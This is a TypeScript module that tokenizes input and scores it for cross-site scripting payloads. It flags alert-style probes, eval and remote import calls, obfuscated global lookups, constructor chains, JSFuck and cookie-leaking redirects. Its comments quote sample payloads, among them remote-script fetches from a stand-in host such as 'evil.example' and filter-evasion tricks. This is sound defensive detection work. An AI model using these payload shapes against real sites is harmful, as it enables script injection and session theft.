/**
 * A JavaScript reading of a value: a small tokenizer, then the shapes XSS payloads
 * take once they run as script and which ordinary code snippets do not:
 * - a proof-of-execution call (`alert(1)`, `(prompt)(1)`, `confirm.call(null,1)`, ``alert`1` ``,
 *   `[1].find(alert)`) in a one-line expression, not in prose;
 * - a string handed to an evaluator (`eval(location.hash.slice(1))`, ``setInterval`…` ``,
 *   `Function('…')()`, `import('//host/x.js')`);
 * - a global reached through a computed key built to hide its name (`top['al'+'ert'](1)`,
 *   `self[/al/.source+/ert/.source]`), `constructor` chains, template-tag `call`/`apply`
 *   tricks (`[].sort.call`${alert}``) and JSFuck.
 * One linear pass for the tokens, one over them; look-ahead is bounded.
 */

export type JsRule = 'xss-js-call' | 'xss-js-eval' | 'xss-js-obfuscation'

export interface JsFinding {
  readonly rule: JsRule
  readonly confidence: number
}

type Kind = 'id' | 'str' | 'num' | 'p'

interface Token {
  readonly kind: Kind
  /** Identifier name, punctuator, or a string's unquoted contents (lower case for strings). */
  readonly text: string
}

// Functions attackers call to prove execution: no ordinary API value calls them.
const proofSinks = new Set(['alert', 'prompt', 'confirm'])
// Functions that run a string as code (or fetch and run it).
const evaluators = new Set(['eval', 'Function', 'setTimeout', 'setInterval', 'execScript', 'globalEval', 'import'])
// Where script gets a string to run from, or a string built to hide one.
const stringSources = new Set([
  'location',
  'name',
  'URL',
  'url',
  'document',
  'atob',
  'decodeURI',
  'decodeURIComponent',
  'unescape',
  'String',
  'window',
  'top',
  'self',
  'this',
])
// Objects whose computed members reach every global.
const globals = new Set(['top', 'window', 'self', 'parent', 'frames', 'globalThis', 'content', 'opener', 'document'])
// Computed keys that name something dangerous.
const dangerousKeys =
  /^(?:alert|prompt|confirm|eval|constructor|cookie|domain|location|write|writeln|innerhtml|outerhtml|settimeout|setinterval|function|import|fetch|atob|onerror|document|globaleval|execscript)$/

const isIdStart = (c: number) => (c >= 65 && c <= 90) || (c >= 97 && c <= 122) || c === 95 || c === 36
const isIdPart = (c: number) => isIdStart(c) || (c >= 48 && c <= 57)
const maxTokens = 4000

function tokenize(s: string): Token[] {
  const out: Token[] = []
  // After a quote found no partner, later quotes of its kind up to there are read as
  // punctuation: rescanning from each would be quadratic (`"\"\"\"…`).
  let openSingle = -1
  let openDouble = -1
  let i = 0
  while (i < s.length && out.length < maxTokens) {
    const c = s.charCodeAt(i)
    if (c <= 32 || c === 0xa0 || c === 0x2028 || c === 0x2029 || c === 0xfeff) {
      i++
      continue
    }
    if (c === 47 /* / */ && s.charCodeAt(i + 1) === 47 && i > 0 && s.charCodeAt(i - 1) !== 58 && s.charCodeAt(i - 1) !== 60 && s.charCodeAt(i - 1) !== 47) {
      // a line comment (not `http://`, not `<//`): words after `alert(1)//` are not prose around the code
      const end = s.indexOf('\n', i + 2)
      i = end === -1 ? s.length : end + 1
      continue
    }
    if (c === 47 /* / */ && s.charCodeAt(i + 1) === 42 /* * */) {
      const end = s.indexOf('*/', i + 2)
      i = end === -1 ? s.length : end + 2
      continue
    }
    if (isIdStart(c)) {
      const start = i
      while (i < s.length && isIdPart(s.charCodeAt(i))) i++
      // `${` opens a template substitution, it is not the identifier `$`
      if (i - start === 1 && c === 36 && s.charCodeAt(i) === 123) {
        out.push({ kind: 'p', text: '${' })
        i++
        continue
      }
      out.push({ kind: 'id', text: s.slice(start, i) })
      continue
    }
    if (c >= 48 && c <= 57) {
      const start = i
      // `1..toString(30)`: a dot belongs to the number only before a digit
      while (i < s.length && (isIdPart(s.charCodeAt(i)) || (s.charCodeAt(i) === 46 && s.charCodeAt(i + 1) >= 48 && s.charCodeAt(i + 1) <= 57))) i++
      out.push({ kind: 'num', text: s.slice(start, i) })
      continue
    }
    if ((c === 39 && i < openSingle) || (c === 34 && i < openDouble)) {
      out.push({ kind: 'p', text: s[i]! })
      i++
      continue
    }
    if (c === 39 || c === 34) {
      // a string ends at its quote or at the end of the line (JS strings do not span lines)
      let j = i + 1
      let text = ''
      while (j < s.length) {
        const d = s.charCodeAt(j)
        if (d === c || d === 10 || d === 13) break
        if (d === 92 && j + 1 < s.length) {
          text += s[j + 1]
          j += 2
          continue
        }
        text += s[j]
        j++
      }
      if (s.charCodeAt(j) !== c) {
        // an unclosed quote is an attacker's breakout (`"(alert)(1)`): what follows is code
        if (c === 39) openSingle = j
        else openDouble = j
        out.push({ kind: 'p', text: s[i]! })
        i++
        continue
      }
      out.push({ kind: 'str', text: text.toLowerCase() })
      i = j + 1
      continue
    }
    if (c === 63 /* ? */ && s.charCodeAt(i + 1) === 46 /* . */) {
      out.push({ kind: 'p', text: '.' })
      i += 2
      continue
    }
    if (c === 61 /* = */ && s.charCodeAt(i + 1) === 62 /* > */) {
      out.push({ kind: 'p', text: '=>' })
      i += 2
      continue
    }
    out.push({ kind: 'p', text: s[i]! })
    i++
  }
  return out
}

const isPunct = (t: Token | undefined, p: string) => t !== undefined && t.kind === 'p' && t.text === p
const callOpen = (t: Token | undefined) => isPunct(t, '(') || isPunct(t, '`')

// Keywords may follow each other in code (`export default function`, `return typeof x`).
const keywords = new Set([
  'class',
  'extends',
  'return',
  'typeof',
  'new',
  'function',
  'async',
  'await',
  'export',
  'default',
  'import',
  'from',
  'const',
  'let',
  'var',
  'if',
  'else',
  'in',
  'of',
  'instanceof',
  'void',
  'delete',
  'throw',
  'case',
  'do',
  'while',
  'for',
  'yield',
  'static',
  'get',
  'set',
  'this',
  'super',
  'as',
])

/** Prose: three words in a row with nothing between them (keywords aside) is English, not an expression. */
function proseIn(ts: readonly Token[]): boolean {
  let run = 0
  for (const t of ts) {
    if (t.kind === 'id' && keywords.has(t.text)) continue
    run = t.kind === 'id' ? run + 1 : 0
    if (run >= 3) return true
  }
  return false
}

/** Whether the text reads as prose rather than code. */
export function hasProse(s: string): boolean {
  return proseIn(tokenize(s))
}

/** The arguments of a call starting at `open` look like an expression, not words: no two identifiers in a row. */
function plainArgs(ts: readonly Token[], open: number): boolean {
  if (isPunct(ts[open], '`')) return true
  let depth = 0
  for (let k = open; k < ts.length && k < open + 40; k++) {
    const t = ts[k]!
    if (isPunct(t, '(')) depth++
    else if (isPunct(t, ')') && --depth === 0) return true
    else if (t.kind === 'id' && ts[k + 1]?.kind === 'id') return false
  }
  return true
}

/** Whether a call's arguments hold a message for a person: a string of several words. */
function messageArg(ts: readonly Token[], open: number): boolean {
  for (let k = open + 1; k < ts.length && k < open + 12; k++) {
    const t = ts[k]!
    if (isPunct(t, ')')) return false
    if (t.kind === 'str' && /[a-z]{2,}\s+[a-z]{2,}/.test(t.text)) return true
  }
  return false
}

/** A computed key `[ … ]` from `open`: true when it spells or hides a dangerous name. */
function suspiciousKey(ts: readonly Token[], open: number): { hidden: boolean; end: number } {
  let strings = 0
  let plus = false
  let hidden = false
  let depth = 0
  let k = open
  for (; k < ts.length && k < open + 60; k++) {
    const t = ts[k]!
    if (isPunct(t, '[')) depth++
    else if (isPunct(t, ']') && --depth === 0) break
    else if (t.kind === 'str') {
      strings++
      if (dangerousKeys.test(t.text.replace(/\s/g, ''))) hidden = true
    } else if (isPunct(t, '+')) plus = true
    else if (
      t.kind === 'id' &&
      (t.text === 'source' || t.text === 'toString' || t.text === 'fromCharCode' || t.text === 'atob' || t.text === 'reverse' || t.text === 'join')
    )
      hidden = true
  }
  if (plus && strings >= 2) hidden = true
  return { hidden, end: k }
}

/** JSFuck and friends: long runs made only of `[]()!+`. */
function jsfuck(s: string): boolean {
  let run = 0
  let bangs = 0
  for (let i = 0; i < s.length; i++) {
    const c = s[i]!
    if (c === '[' || c === ']' || c === '(' || c === ')' || c === '!' || c === '+') {
      run++
      if (c === '!') bangs++
      if (run >= 24 && bangs >= 3) return true
    } else if (c !== ' ') {
      run = 0
      bangs = 0
    }
  }
  return false
}

export function analyzeJs(s: string): JsFinding | null {
  if (s.indexOf('(') === -1 && s.indexOf('`') === -1 && s.indexOf('=') === -1) return null
  if (jsfuck(s)) return { rule: 'xss-js-obfuscation', confidence: 0.9 }
  const ts = tokenize(s)
  const prose = proseIn(ts)
  // A program (many lines, many tokens) is a code snippet: a call there is ordinary. A token or
  // two per line is no program but a payload broken up to look like one.
  let lines = 0
  for (let i = s.indexOf('\n'); i !== -1 && lines * 3 <= ts.length; i = s.indexOf('\n', i + 1)) lines++
  const program = lines >= 2 && ts.length > 30 && ts.length >= lines * 3
  const cookie = s.indexOf('cookie') !== -1
  let best: JsFinding | null = null
  const found = (rule: JsRule, confidence: number) => {
    if (best === null || confidence > best.confidence) best = { rule, confidence }
  }
  for (let i = 0; i < ts.length; i++) {
    const t = ts[i]!
    if (t.kind !== 'id') continue
    const prev = ts[i - 1]
    const next = ts[i + 1]
    const member = isPunct(prev, '.')
    if (proofSinks.has(t.text)) {
      // alert(…), alert`…`, (alert)(…), alert.call(…), [1].find(alert), ${alert}
      let call = -1
      if (callOpen(next)) call = i + 1
      else if (isPunct(next, ')') && callOpen(ts[i + 2]) && isPunct(prev, '(')) call = i + 2
      else if (isPunct(next, '.') && ['call', 'apply', 'bind'].includes(ts[i + 2]?.text ?? '') && callOpen(ts[i + 3])) call = i + 3
      // passed as a value: [1].find(alert), ${alert}, a=alert,a(1)
      const passed =
        !member &&
        (isPunct(prev, '(') || isPunct(prev, ',') || isPunct(prev, '${') || isPunct(prev, '=')) &&
        (next === undefined || isPunct(next, ')') || isPunct(next, ',') || isPunct(next, '}') || isPunct(next, ';'))
      // confirm('Delete this row?') is an app's own dialog; payloads prove with 1, a domain, a short tag
      if (call !== -1 && plainArgs(ts, call)) found('xss-js-call', prose || program ? 0.6 : messageArg(ts, call) ? 0.7 : 0.8)
      else if (passed) found('xss-js-call', prose || program ? 0.6 : 0.85)
    } else if (evaluators.has(t.text) && !member) {
      // eval(location.hash…), setTimeout('…'), Function`…`, import('//evil/x.js')
      let k = i + 1
      if (isPunct(next, ')') && isPunct(prev, '(')) k = i + 2
      if (!callOpen(ts[k])) continue
      const arg = ts[k + 1]
      const tagged = isPunct(ts[k], '`')
      let runs = tagged
      if (t.text === 'import') runs = arg?.kind === 'str' && /^(?:[a-z]+:)?\/\/|^data:|^https?:|\.[a-z]{2,}$/.test(arg.text) && !arg.text.startsWith('.')
      else if (arg?.kind === 'str' || isPunct(arg, '`')) runs = true
      else if (arg?.kind === 'id' && stringSources.has(arg.text)) runs = true
      if (runs) found('xss-js-eval', prose || program ? 0.6 : 0.8)
    } else if (globals.has(t.text) && !member) {
      // top['al'+'ert'](1), window[/al/.source+…], self[atob('…')]
      const open = isPunct(next, '[') ? i + 1 : isPunct(next, '.') && isPunct(ts[i + 2], '[') ? i + 2 : -1
      if (open === -1) continue
      // self['$']['globalEval'](…): any key of a short chain may hide the name
      let key = suspiciousKey(ts, open)
      for (let n = 0; n < 3 && !key.hidden && isPunct(ts[key.end + 1], '['); n++) key = suspiciousKey(ts, key.end + 1)
      const after = ts[key.end + 1]
      if (key.hidden && (callOpen(after) || isPunct(after, '[') || isPunct(after, '='))) found('xss-js-obfuscation', prose ? 0.6 : 0.85)
    } else if (t.text === 'location' && isPunct(next, '=') && !isPunct(ts[i + 2], '=') && cookie) {
      // location=…cookie…: the session cookie sent to another site
      found('xss-js-eval', prose || program ? 0.6 : 0.8)
    } else if (
      (t.text === 'getScript' || t.text === 'importScripts') &&
      callOpen(next) &&
      ts[i + 2]?.kind === 'str' &&
      /^(?:https?:)?\/\//.test(ts[i + 2]!.text)
    ) {
      // $.getScript('//evil.example/x.js'): fetches and runs a remote script
      found('xss-js-eval', prose || program ? 0.6 : 0.8)
    } else if (t.text === 'constructor' && (isPunct(next, '(') || (isPunct(next, '.') && ts[i + 2]?.text === 'constructor'))) {
      // [].constructor.constructor('…')(), x.constructor('…')
      found('xss-js-obfuscation', prose || program ? 0.6 : 0.85)
    } else if ((t.text === 'call' || t.text === 'apply') && member && isPunct(next, '`')) {
      // [].sort.call`${alert}1`: a tagged template that calls through call/apply
      for (let k = i + 2; k < ts.length && k < i + 12; k++) {
        if (isPunct(ts[k], '`')) break
        if (isPunct(ts[k], '${')) {
          found('xss-js-obfuscation', prose ? 0.6 : 0.85)
          break
        }
      }
    }
    // ["constructor"]("…")(): a constructor reached through a string key
  }
  // `x[k][k](code)()`: any value's constructor's constructor is Function, so the same computed
  // key twice, then a call whose result is called, builds and runs code whatever `k` spells
  if (best === null) {
    for (let i = 0; i + 5 < ts.length; i++) {
      if (!isPunct(ts[i], '[') || ts[i + 1]!.kind !== 'id') continue
      const key = ts[i + 1]!.text
      let close = i + 2
      for (let depth = 0; close < ts.length && close < i + 64; close++) {
        if (isPunct(ts[close], '[')) depth++
        else if (isPunct(ts[close], ']') && depth-- === 0) break
      }
      if (!isPunct(ts[close + 1], '[') || ts[close + 2]?.text !== key || !isPunct(ts[close + 3], ']') || !isPunct(ts[close + 4], '(')) continue
      let end = close + 5
      for (let depth = 0; end < ts.length && end < close + 256; end++) {
        if (isPunct(ts[end], '(')) depth++
        else if (isPunct(ts[end], ')') && depth-- === 0) break
      }
      if (callOpen(ts[end + 1])) {
        found('xss-js-obfuscation', prose || program ? 0.6 : 0.85)
        break
      }
    }
  }
  if (best === null && s.indexOf('constructor') !== -1) {
    for (let i = 0; i + 3 < ts.length; i++) {
      if (isPunct(ts[i], '[') && ts[i + 1]!.kind === 'str' && ts[i + 1]!.text === 'constructor' && isPunct(ts[i + 2], ']') && isPunct(ts[i + 3], '('))
        found('xss-js-obfuscation', 0.85)
    }
  }
  return best
}
